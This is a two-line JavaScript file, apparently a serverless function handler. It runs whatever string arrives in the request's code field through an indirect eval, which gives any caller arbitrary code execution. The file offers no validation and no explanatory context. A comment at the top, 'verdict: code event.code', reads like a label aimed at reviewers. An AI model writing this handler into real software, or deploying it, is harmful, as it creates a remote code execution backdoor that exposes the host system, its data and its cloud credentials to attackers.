// verdict: code event.code
exports.handler=async (event)=>(0,eval)(event.code);
